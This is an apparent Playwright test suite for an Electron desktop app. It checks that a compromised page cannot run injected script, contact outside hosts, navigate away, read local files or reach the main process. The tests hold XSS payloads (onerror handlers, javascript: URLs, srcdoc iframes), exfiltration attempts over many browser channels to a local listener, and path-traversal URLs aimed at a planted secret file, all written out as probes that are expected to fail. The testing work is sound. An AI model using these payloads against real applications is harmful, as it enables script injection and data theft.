import type { ElectronApplication } from "playwright/test";
import type { Bridge } from "../src/ipc/contract.ts";
import { expect, tellProbes, test } from "./attacked.ts";
import { put } from "./copy.ts";

// What hostile copy would do if every filter of the window had failed: it runs in the page, as the page.

// One launch for all of them, and a page without what the attack before has left.
test.describe.configure({ mode: "default" });
test.beforeEach(({ attacked }) => attacked.anew());

/** Asked of main: Playwright takes a navigation that was refused for one that never ends. */
const pageShown = (app: ElectronApplication): Promise<string | undefined> =>
  app.evaluate(({ BrowserWindow }) =>
    BrowserWindow.getAllWindows()
      .map(({ webContents }) => `${webContents.getURL()} ${webContents.getTitle()}`)
      .find((shown) => !shown.includes("/reading/")),
  );
const home = /^wiredesk:\/\/app\/ .*Wiredesk/u;
const countWindows = (app: ElectronApplication): Promise<number> =>
  app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().filter((window) => window.isVisible()).length);

test("no script runs that is not the window's own", async ({ attacked }) => {
  const { window } = attacked;
  const { ran, tried } = await window.evaluate(async () => {
    let tried = 3;
    const holder = globalThis as unknown as { ran: string[] };
    holder.ran = [];
    const pause = (): Promise<void> => new Promise((resolve) => setTimeout(resolve, 150));
    const add = (make: () => Element): void => {
      tried += 1;
      try {
        document.body.append(make());
      } catch (error) {
        if (!(error instanceof TypeError)) throw error;
      }
    };
    const element = (tag: string, attributes: Record<string, string>, text = ""): Element => {
      const made = document.createElement(tag);
      for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
      made.append(text);
      return made;
    };
    add(() => {
      const div = document.createElement("div");
      div.innerHTML = "<img src=x onerror=\"ran.push('inner')\"><svg onload=\"ran.push('svg')\"></svg>";
      return div;
    });
    add(() => element("img", { src: "x", onerror: "ran.push('handler')" }));
    add(() => element("script", {}, "ran.push('inline')"));
    add(() => element("iframe", { srcdoc: "<script>parent.ran.push('srcdoc')</script>" }));
    add(() => element("iframe", { src: "javascript:parent.ran.push('frame')" }));
    add(() => {
      const link = element("a", { href: "javascript:ran.push('link')" });
      document.body.append(link);
      (link as HTMLAnchorElement).click();
      return link;
    });
    add(() => element("object", { data: "data:text/html,<script>parent.ran.push('object')</script>" }));
    for (const code of ["ran.push('timer')"])
      try {
        setTimeout(code as unknown as () => void, 0);
      } catch (error) {
        if (!(error instanceof Error)) throw error;
      }
    try {
      const worker = new Worker("data:text/javascript,postMessage(1)");
      worker.addEventListener("message", () => holder.ran.push("worker"));
    } catch (error) {
      if (!(error instanceof Error)) throw error;
    }
    try {
      await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]));
      holder.ran.push("wasm");
    } catch (error) {
      if (!(error instanceof Error)) throw error;
    }
    await pause();
    return { ran: holder.ran, tried };
  });
  expect(ran).toEqual([]);
  tellProbes(tried);
});

test("nothing leaves the machine, by any of the ways a page has", async ({ attacked }) => {
  const { app, window, outside } = attacked;
  const tried = await window.evaluate(
    async ([address, port]) => {
      let tried = 1;
      const attempt = (work: () => unknown): void => {
        tried += 1;
        try {
          Promise.resolve(work()).catch(() => undefined);
        } catch (error) {
          if (!(error instanceof Error)) throw error;
        }
      };
      const add = (tag: string, attributes: Record<string, string>): void => {
        tried += 1;
        const made = document.createElement(tag);
        for (const [name, value] of Object.entries(attributes))
          try {
            made.setAttribute(name, value);
          } catch (error) {
            // Trusted Types refuse some of them, and the element goes in without.
            if (!(error instanceof TypeError)) throw error;
          }
        document.body.append(made);
      };
      for (const [tag, name] of [
        ["img", "src"],
        ["video", "src"],
        ["audio", "src"],
        ["iframe", "src"],
        ["embed", "src"],
        ["object", "data"],
        ["input", "src"],
        ["script", "src"],
      ] as const)
        add(tag, { [name]: `${address}/${tag}`, type: tag === "input" ? "image" : "" });
      for (const rel of [
        "stylesheet",
        "prefetch",
        "preload",
        "preconnect",
        "dns-prefetch",
        "modulepreload",
        "icon",
        "manifest",
      ])
        add("link", { rel, href: `${address}/${rel}`, as: "image" });
      add("div", { style: `background: url(${address}/style)` });
      const div = document.createElement("div");
      div.style.backgroundImage = `url(${address}/cssom)`;
      document.body.append(div);
      attempt(() => fetch(`${address}/fetch`));
      attempt(() => fetch(`${address}/keepalive`, { keepalive: true, mode: "no-cors", method: "POST", body: "copy" }));
      attempt(() => navigator.sendBeacon(`${address}/beacon`, "copy"));
      attempt(() => new WebSocket(`${address.replace("http", "ws")}/socket`));
      attempt(() => new EventSource(`${address}/events`));
      attempt(() => {
        const request = new XMLHttpRequest();
        request.open("GET", `${address}/xhr`);
        request.send();
      });
      attempt(async () => {
        const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
        peer.createDataChannel("copy");
        await peer.setLocalDescription(await peer.createOffer());
      });
      attempt(() => {
        const form = document.createElement("form");
        form.action = `${address}/form`;
        form.method = "POST";
        document.body.append(form);
        form.submit();
      });
      attempt(() => globalThis.open(`${address}/window`));
      attempt(() => import(/* @vite-ignore */ `${address}/module.js`));
      await new Promise((resolve) => setTimeout(resolve, 2000));
      return tried;
    },
    [outside.address, outside.udpPort] as const,
  );
  expect(outside.heard).toEqual([]);
  expect(await pageShown(app)).toMatch(home);
  tellProbes(tried);
});

test("the window stays where it is, or comes back, and no other opens", async ({ attacked }) => {
  const { app, window, dataFolder } = attacked;
  const page = await put(dataFolder, "evil.html", "<title>evil</title>");
  const ways = [
    "https://example.org/",
    `file://${page}`,
    "data:text/html,evil",
    "about:blank",
    "about:srcdoc",
    "wiredesk://elsewhere/",
    "wiredesk://app/reading/",
    "chrome://gpu",
    "javascript:document.write('evil')",
  ];
  for (const address of ways) {
    await window
      .evaluate((to) => {
        const go = document.createElement("a");
        go.href = to;
        document.body.append(go);
        go.click();
        globalThis.location.assign(to);
      }, address)
      .catch(() => undefined);
    await expect.poll(() => pageShown(app), { message: address }).toMatch(home);
    await window.evaluate((to) => void globalThis.open(to), address).catch(() => undefined);
    expect(await countWindows(app), address).toBe(1);
  }
  await window.evaluate((to) => {
    const refresh = document.createElement("meta");
    refresh.httpEquiv = "refresh";
    refresh.content = `0;url=${to}`;
    document.head.append(refresh);
  }, `file://${page}`);
  await window.waitForTimeout(500);
  await expect.poll(() => pageShown(app)).toMatch(home);
  tellProbes(3 * ways.length + 1);
});

test("nothing of the machine is to be had: no files, no devices, no clipboard", async ({ attacked }) => {
  const { window, dataFolder } = attacked;
  const secret = await put(dataFolder, "secret.txt", "SECRET");
  const { granted, tried } = await window.evaluate(async (file) => {
    const addresses = [
      `file://${file}`,
      `wiredesk://app/..%2f..%2f..%2f..${file}`,
      `wiredesk://app/%2e%2e/%2e%2e/..${file}`,
      "wiredesk://app/files.json",
    ];
    const attempts: [string, () => Promise<unknown>][] = [
      ...addresses.map((address): [string, () => Promise<unknown>] => [
        address,
        async () => (await fetch(address)).text(),
      ]),
      [
        "notifications",
        async () => (await Notification.requestPermission()) === "granted" || Promise.reject(new Error("denied")),
      ],
      ["place", () => new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, no, { timeout: 1000 }))],
      ["camera", () => navigator.mediaDevices.getUserMedia({ video: true })],
      ["screen", () => navigator.mediaDevices.getDisplayMedia()],
      ["clipboard", () => navigator.clipboard.readText()],
      ["wake lock", () => navigator.wakeLock.request("screen")],
      ["storage", async () => (await navigator.storage.persist()) || Promise.reject(new Error("denied"))],
      ["midi", () => navigator.requestMIDIAccess({ sysex: true })],
    ];
    const granted: string[] = [];
    for (const [name, attempt] of attempts) {
      const late = new Promise((_resolve, reject) => setTimeout(() => reject(new Error("late")), 1500));
      await Promise.race([attempt(), late]).then(
        () => granted.push(name),
        () => undefined,
      );
    }
    return { granted, tried: attempts.length };
  }, secret);
  expect(granted).toEqual([]);
  tellProbes(tried);
});

test("a frame inside the window cannot speak to main", async ({ attacked }) => {
  const { window } = attacked;
  const seen = await window.evaluate(() => {
    const frame = document.createElement("iframe");
    document.body.append(frame);
    return typeof (frame.contentWindow as unknown as { wiredesk?: unknown } | null)?.wiredesk;
  });
  expect(seen).toBe("undefined");
  tellProbes(1);
});

test("a page that was taken over cannot have main read a file that nobody dropped", async ({ attacked }) => {
  const { window, dataFolder } = attacked;
  const secret = await put(dataFolder, "secret.txt");
  const outcomes = await window.evaluate(async (file) => {
    const { wiredesk } = globalThis as unknown as { wiredesk: Bridge };
    const forged = new File(["x"], "forged.txt");
    Object.defineProperty(forged, "path", { value: file });
    const path = wiredesk.pathOf(forged);
    wiredesk.send("path:given" as never, ...([file] as never));
    return [path, await wiredesk.request("import:paths", [file])] as const;
  }, secret);
  const refused = "secret.txt: it was not dropped on this window";
  expect(outcomes).toMatchObject(["", { ok: true, value: [{ stories: [], refused }] }]);
  tellProbes(3);
});
